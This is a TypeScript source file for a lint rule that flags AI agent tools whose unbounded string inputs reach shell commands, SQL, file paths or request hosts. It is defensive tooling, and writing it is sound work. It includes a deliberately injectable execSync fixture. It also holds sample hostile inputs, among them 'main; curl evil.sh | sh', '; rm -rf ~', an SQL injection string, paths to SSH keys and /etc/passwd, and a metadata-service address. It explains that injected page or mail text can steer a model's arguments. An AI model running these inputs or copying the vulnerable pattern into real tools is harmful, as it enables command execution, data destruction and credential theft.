import { isObject } from '../../json-schema/subschemas.js'
import type { JsonObject } from '../../model/json.js'
import type { HandlerSink } from '../../model/site.js'
import { schemaFields } from '../engine/explicit.js'
import type { Rule } from '../engine/rule.js'
import { inline, toolLabel } from '../engine/wording.js'

const showLog = (branch: string) => `import { execSync } from 'node:child_process'
import { defineTool } from '@toolsight/runtime'
import { z } from 'zod'

export const showLog = defineTool({
  name: 'show_log',
  description: 'Shows the last commits of a branch.',
  input: z.object({ branch: ${branch} }),
  handler: ({ branch }) => execSync(\`git log -5 \${branch}\`, { encoding: 'utf8' }),
})
`

export const unboundedSink: Rule = {
  scope: 'tool',
  meta: {
    code: 'unbounded-sink',
    title: 'Any text of the model is put in a command, path or address',
    category: 'correctness',
    severity: 'warning',
    fixable: false,
    what:
      'A text field without `enum`, `pattern` or a format becomes a part of a command, an SQL text or a path that the handler builds ' +
      'around it, or decides to which host a request goes: it is the beginning of its address, a part of the host, or the first argument ' +
      'of `new URL` with a base. What is put behind a host that is written out is left alone. Where the field is the whole command, statement, path or address, the tool is made for that, and nothing is ' +
      'reported. Read from the text of the handler. A handler that calls anything that looks like a check (`isAllowed`, `escape`, ' +
      '`startsWith`) is not judged.',
    why:
      'What the model sends may come from a page or a mail that it has read. `main; curl evil.sh | sh` is then run, and ' +
      '`../../.ssh/id_rsa` is read. A request that goes to another host takes its token along, or reaches what only the server can.',
    remedy:
      'Bound the field in the schema: an enum, or a pattern such as `z.string().regex(/^[\\w.-]+$/)`. And hand the value over apart: ' +
      '`execFile` with a list of arguments, a parameter of the query.',
    good: { files: { 'tools/show-log.ts': showLog('z.string().regex(/^\\w[\\w.\\/-]*$/)') } },
    bad: {
      files: { 'tools/show-log.ts': showLog('z.string()') },
      at: { file: 'tools/show-log.ts', line: 8, text: 'branch' },
    },
  },

  *check(tool) {
    const properties = tool.schema?.['properties']
    if (!isObject(properties)) return
    const seen = new Set<string>()
    for (const { field, takes, isWhole, called, range } of tool.site.effects?.sinks ?? []) {
      const schema = Object.hasOwn(properties, field) ? properties[field] : undefined
      // A tool that takes a whole command, address or path is made for just that.
      if (isWhole || seen.has(field) || !isObject(schema) || !isAnyText(schema)) continue
      seen.add(field)
      yield {
        message: [
          `Bound \`${inline(field, 40)}\` of '${toolLabel(tool)}': any text becomes part of ${PART[takes]}.`,
          `The handler hands it to ${inline(called, 60)}, and the schema accepts every string, such as ${SUCH[takes]}.`,
          isAddress(takes)
            ? 'Give it an enum or a pattern, or put it behind a host that is written out.'
            : 'Give it an enum or a pattern, and hand it over apart from the text around it.',
        ].join('\n'),
        at: { fields: schemaFields(tool), path: [field] },
        path: [field],
        related: [{ file: tool.file, range, message: 'It is used here.' }],
      }
    }
  },
}

const PART: Readonly<Record<HandlerSink['takes'], string>> = {
  command: 'a command',
  sql: 'an SQL text',
  path: 'a path',
  address: 'the host of a request',
  host: 'the host of a request',
}
const SUCH: Readonly<Record<HandlerSink['takes'], string>> = {
  command: '; rm -rf ~',
  sql: "' OR 1=1 --",
  path: '../../../etc/passwd',
  address: 'http://169.254.169.254',
  host: 'evil.example/',
}

function isAddress(takes: HandlerSink['takes']): boolean {
  return takes === 'address' || takes === 'host'
}

/** Texts with another format than an address are bounded by it. */
function isAnyText(schema: JsonObject): boolean {
  const { type, format } = schema
  const isBounded = ['enum', 'const', 'pattern', 'anyOf', 'oneOf', '$ref'].some(
    (key) => schema[key] !== undefined,
  )
  return type === 'string' && !isBounded && (format === undefined || format === 'uri')
}
